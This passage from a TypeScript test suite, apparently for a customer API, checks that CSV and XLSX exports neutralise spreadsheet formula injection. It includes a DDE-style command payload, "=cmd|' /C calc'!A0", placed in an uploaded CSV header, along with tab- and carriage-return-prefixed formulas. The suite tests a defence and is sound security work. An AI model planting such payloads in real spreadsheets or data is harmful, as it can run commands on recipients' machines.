    const values = [...formulas, '\t=1+1', '\r=1+1', '=1+1\n', 'Not\uFFFEXml'];
    for (const [index, value] of values.entries()) {
      const created = await rulebook.post('/v1/customers', { id: `H-export-${index}`, email: `export.${index}@example.com`, name: value });
      expect(created.status).toBe(201);
      // Attributes are stored as sent, leading tab or carriage return included.
      const changed = await rulebook.patch(`/v1/customers/H-export-${index}`, { attributes: { city: value }, changedBy: 'hostile-test' });
      expect(changed.status).toBe(200);
    }
  });

  async function exported(format: 'csv' | 'xlsx'): Promise<Buffer> {
    const res = await rulebook.post('/v1/customers/exports', { format, requestedBy: 'hostile-test' });
    expect(res.status).toBe(202);
    const job = await rulebook.finishedJob(res.headers.get('location')!);
    expect(job.status).toBe('complete');
    return Buffer.from(await (await rulebook.api(`/v1/exports/${job.id}/file`)).arrayBuffer());
  }

  it('neutralise every CSV cell that starts with = + - @ tab or carriage return, with an apostrophe', async () => {
    // eslint-disable-next-line @typescript-eslint/no-unnecessary-type-assertion -- csv-parse's typed overload requires `columns`
    const rows = parse(await exported('csv')) as string[][];
    const cells = rows.flat();
    expect(cells.filter((cell) => formulaStart.test(cell))).toEqual([]);
    const header = rows[0]!;
    const byId = new Map(rows.map((row) => [row[0], row]));
    expect(byId.get('H-export-0')![header.indexOf('name')]).toBe(`'${formulas[0]}`);
    expect(byId.get('H-export-5')![header.indexOf('city')]).toBe("'\t=1+1");
    expect(byId.get('H-export-6')![header.indexOf('city')]).toBe("'\r=1+1");
    expect(byId.get('H-existing')![header.indexOf('phone')]).toBe("'+919700000000");
  });

  it('write XLSX cells as strings, never formulas', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await exported('xlsx')) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    let checked = 0;
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(formulaStart.test(cell.value as string)).toBe(false);
        checked += 1;
      }),
    );
    expect(checked).toBeGreaterThan(50);
  });

  it('neutralise column names an uploaded file brings into an error file', async () => {
    const job = await imported(`email,=cmd|' /C calc'!A0\nghost@example.com,x\n`, 'text/csv', '/v1/groups/vip-import/imports');
    expect(job).toMatchObject({ status: 'failed', errorRows: 1 });
    const errorFile = await (await rulebook.api(`/v1/imports/${job.id}/errors`)).text();
    // Column names are read in lower case.
    expect(errorFile.split('\n')[0]).toBe(`email,'=cmd|' /c calc'!a0,ERROR`);
  });
});
